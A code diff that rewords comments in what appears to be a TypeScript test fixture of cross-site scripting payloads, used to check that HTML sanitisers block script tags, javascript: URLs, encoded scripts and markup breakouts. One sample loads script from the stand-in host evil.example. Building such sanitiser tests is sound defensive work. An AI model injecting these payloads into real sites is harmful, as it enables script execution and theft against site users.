@@ -1,9 +1,10 @@
 /**
- * Texts and HTML that try to act. Each that does calls `fired`, asks evil.example for something, or opens a dialog.
- * What cleaners have been known to let by: nested and broken tags, other namespaces, encodings, clobbered names.
+ * Malicious texts and HTML. A sample that takes effect calls `fired`, sends a request to evil.example, or opens a
+ * dialog. The samples use tricks that have bypassed HTML sanitisers: nested and broken tags, other namespaces,
+ * encodings, clobbered names.
  */
 
-/** Where a person of the desk may write HTML. */
+/** Samples for fields in which staff may write HTML. */
 export const NAUGHTY_HTML: readonly string[] = [
   '<script>fired()</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
@@ -111,7 +112,7 @@ export const NAUGHTY_HTML: readonly string[] = [
   '\\u003cscript\\u003efired()\\u003c/script\\u003e',
 ]
 
-/** Where plain words are written: names, titles, headings. */
+/** Samples for plain-text fields: names, titles, headings. */
 export const NAUGHTY_TEXT: readonly string[] = [
   '</title><script>fired()</script>',
   '</script><script>fired()</script>',
@@ -125,7 +126,7 @@ export const NAUGHTY_TEXT: readonly string[] = [
   '{"@type":"</script><img src=x onerror=fired()>"}',
 ]
 
-/** Where an address is written; none may be kept as a link. */
+/** Samples for address fields. None of them may be stored as a link. */
 export const NAUGHTY_ADDRESSES: readonly string[] = [
   'javascript:fired()',
   'JaVaScRiPt:fired()',
